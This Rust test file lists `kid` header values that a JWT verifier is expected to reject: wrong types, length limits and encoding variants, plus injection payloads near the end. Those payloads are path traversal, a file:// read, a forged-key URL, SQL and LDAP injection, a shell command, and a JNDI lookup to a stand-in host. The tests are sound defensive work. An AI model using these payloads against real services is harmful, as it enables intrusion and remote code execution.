//! Values of `kid` that are not in the issuer's key set (RFC 7515 §4.1.4, RFC 8725 §2.10).

use serde_json::json;

use super::{Case, KEY, MALFORMED};

pub(super) const CASES: &[Case] = &[
    ("kid a number", MALFORMED, |good| good.header("kid", 7)),
    ("kid true", MALFORMED, |good| good.header("kid", true)),
    ("kid null", MALFORMED, |good| {
        good.header("kid", json!(null))
    }),
    ("kid an array", MALFORMED, |good| {
        good.header("kid", json!([good.kid()]))
    }),
    ("kid an object", MALFORMED, |good| {
        good.header("kid", json!({ "kid": good.kid() }))
    }),
    ("kid too long", MALFORMED, |good| {
        good.header("kid", "k".repeat(1025))
    }),
    ("kid as long as may be", KEY, |good| {
        good.header("kid", "k".repeat(1024))
    }),
    ("an unknown key", KEY, |good| good.header("kid", "unknown")),
    ("kid empty", KEY, |good| good.header("kid", "")),
    ("kid null, as a string", KEY, |good| {
        good.header("kid", "null")
    }),
    ("kid none, as it is logged", KEY, |good| {
        good.header("kid", "(none)")
    }),
    ("kid in another case", KEY, |good| {
        good.header("kid", good.kid().to_ascii_uppercase())
    }),
    ("kid cut short", KEY, |good| {
        good.header("kid", &good.kid()[..good.kid().len() - 1])
    }),
    ("kid with a suffix", KEY, |good| {
        good.header("kid", format!("{}0", good.kid()))
    }),
    ("kid twice in one string", KEY, |good| {
        good.header("kid", good.kid().repeat(2))
    }),
    ("kid after a space", KEY, |good| {
        good.header("kid", format!(" {}", good.kid()))
    }),
    ("kid with a non-breaking space", KEY, |good| {
        good.header("kid", format!("{}\u{a0}", good.kid()))
    }),
    ("kid with a zero-width space", KEY, |good| {
        good.header("kid", format!("{}\u{200b}", good.kid()))
    }),
    ("kid with a line break", KEY, |good| {
        good.header("kid", format!("{}\r\n", good.kid()))
    }),
    ("kid with a null", KEY, |good| {
        good.header("kid", format!("{}\0", good.kid()))
    }),
    ("kid in quotes", KEY, |good| {
        good.header("kid", format!("\"{}\"", good.kid()))
    }),
    ("kid percent-encoded", KEY, |good| {
        good.header("kid", good.kid().replace('-', "%2D"))
    }),
    ("kid in hexadecimal", KEY, |good| {
        good.header(
            "kid",
            good.kid()
                .bytes()
                .map(|byte| format!("{byte:02x}"))
                .collect::<String>(),
        )
    }),
    ("kid with its issuer", KEY, |good| {
        good.header("kid", format!("{}#{}", good.iss(), good.kid()))
    }),
    ("kid a pattern", KEY, |good| good.header("kid", "*")),
    ("kid a path", KEY, |good| {
        good.header("kid", "../../../../dev/null")
    }),
    ("kid a file", KEY, |good| {
        good.header("kid", "file:///proc/sys/kernel/randomize_va_space")
    }),
    ("kid a URL", KEY, |good| {
        good.header("kid", "https://forger.example.test/.well-known/jwks.json")
    }),
    ("kid a query", KEY, |good| {
        good.header("kid", "x' UNION SELECT 'key' --")
    }),
    ("kid a filter", KEY, |good| {
        good.header("kid", "*)(uid=*))(|(uid=*")
    }),
    ("kid a command", KEY, |good| {
        good.header("kid", "| /usr/bin/id")
    }),
    ("kid a template", KEY, |good| {
        good.header("kid", "${jndi:ldap://forger.example.test/a}")
    }),
    ("kid a thumbprint", KEY, |good| {
        let thumbprint = "NzbLsXh8uDCcd-6MNwXF4W_7noWXFZAfHkxZsRGC9Xs";
        let urn = format!("urn:ietf:params:oauth:jwk-thumbprint:sha-256:{thumbprint}");
        good.header("kid", urn)
    }),
];
